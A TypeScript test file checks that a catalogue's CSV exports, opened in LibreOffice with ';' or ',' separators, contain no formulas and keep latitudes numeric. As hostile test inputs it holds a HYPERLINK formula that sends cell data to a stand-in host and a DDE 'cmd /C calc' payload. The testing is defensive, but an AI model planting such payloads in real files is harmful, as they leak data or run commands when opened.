/**
 * The CSVs a coordinator opens, opened in a real spreadsheet (Debian's LibreOffice) the way
 * Indonesian Excel reads them (`;` as list separator) and the plain way (`,`): text from a
 * submission never becomes a formula, and a negative latitude stays a number.
 */
import { copyFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { toInnovationCsv } from '../../src/lib/site/open-data.ts';
import { buildInnovationViews } from '../../src/lib/site/innovation-view.ts';
import { getLabels } from '../../src/lib/site/labels.ts';
import { loadRepository } from '../../src/repository/load-repository-fs.ts';
import { scoreRepository } from '../../src/repository/score-repository.ts';
import { linkProject } from '../helpers/temp-git.ts';
import { openCsvInLibreOffice } from '../helpers/libreoffice.ts';
import { createTempRepo, minimalInnovation, REPO_ROOT } from '../helpers/temp-repo.ts';

const HOSTILE = 'Antrean x;=HYPERLINK("https://jahat.example/?"&A1;"klik") baru';

let repo: ReturnType<typeof createTempRepo>;
beforeAll(() => {
	repo = createTempRepo();
	copyFileSync(join(REPO_ROOT, 'package.json'), join(repo.root, 'package.json'));
	linkProject(repo.root);
	repo.write(
		'content/inovasi/dinkes/contoh.md',
		minimalInnovation()
			.replace(/^ringkasan: .*$/m, `ringkasan: ${JSON.stringify(HOSTILE)}`)
			.replace('indikator:', 'koordinat: { lintang: -3.41, bujur: 115.97 }\nindikator:')
			// The body reaches the national export's Tujuan column; a line may start with a trigger.
			.replace('## Tujuan\n', `## Tujuan\n\n${HOSTILE}\n\n@SUM(1+1)*cmd|' /C calc'!A0\n`)
	);
	const result = spawnSync('npm', ['run', '--silent', 'ekspor'], {
		cwd: repo.root,
		encoding: 'utf8',
		env: { ...process.env, KATALOG_TANGGAL: '2026-11-27' },
	});
	expect(result.status, result.stderr).toBe(0);
}, 120_000);
afterAll(() => repo.cleanup());

test.each([';', ','] as const)(
	'npm run ekspor: inovasi.csv opened with %j as separator holds no formula',
	(separator) => {
		const cells = openCsvInLibreOffice(join(repo.root, 'ekspor/inovasi.csv'), separator);
		expect(cells.formulas).toEqual([]);
	}
);

test.each([';', ','] as const)(
	'the published /data/inovasi.csv opened with %j holds no formula; the latitude stays -3.41',
	(separator) => {
		const loaded = loadRepository(repo.root, { today: '2026-11-27' });
		const scores = scoreRepository(loaded);
		const views = buildInnovationViews(
			loaded.innovations,
			scores.inovasi,
			new Map([...loaded.agencies].map(([id, agency]) => [id, agency.nama])),
			getLabels(loaded.rules)
		);
		const csv = toInnovationCsv(views, loaded.rules);
		expect(csv).toContain(',-3.41,');
		const file = join(repo.root, 'inovasi.csv');
		writeFileSync(file, csv);
		const cells = openCsvInLibreOffice(file, separator);
		expect(cells.formulas).toEqual([]);
		if (separator === ',') expect(cells.numbers).toContain(-3.41);
	}
);
